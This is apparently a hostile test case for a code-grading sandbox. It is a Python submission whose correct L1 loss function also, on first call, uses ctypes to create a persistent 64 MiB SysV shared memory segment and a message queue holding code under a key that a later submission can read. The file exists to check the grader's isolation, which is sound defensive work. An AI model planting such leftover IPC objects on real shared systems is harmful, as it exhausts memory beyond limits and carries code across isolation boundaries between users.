# Hostile: leaves SysV IPC objects behind (a 64 MiB shared memory segment, filled, and a message
# queue holding code) under a key a later submission knows (sysv_ipc_pick). Without a private IPC
# namespace they outlive the worker, hold memory beyond its limit and carry code between students.
# Its own answer is right: it must score as the reference, and nothing of it may remain.
# unit: L1
# expect: any outcome
# others: reference
import ctypes

_left = []
KEY = int("__TOKEN__"[2:], 16) * 16 + 1
CODE = b"def L2(yhat, y):\n    return float(np.sum((y - yhat) ** 2))\n"


def _leave():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(KEY, 64 << 20, 0o1000 | 0o666)
    if segment >= 0:
        address = libc.shmat(segment, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(address, 7, 64 << 20)
            ctypes.memmove(address, CODE, len(CODE))
            libc.shmdt(ctypes.c_void_p(address))
    queue = libc.msgget(KEY, 0o1000 | 0o666)
    if queue >= 0:
        message = ctypes.create_string_buffer(8 + len(CODE))
        ctypes.memmove(message, (1).to_bytes(8, "little") + CODE, 8 + len(CODE))
        libc.msgsnd(queue, message, len(CODE), 0o4000)


def L1(yhat, y):
    if not _left:
        _left.append(True)
        _leave()
    return float(np.sum(np.abs(y - yhat)))
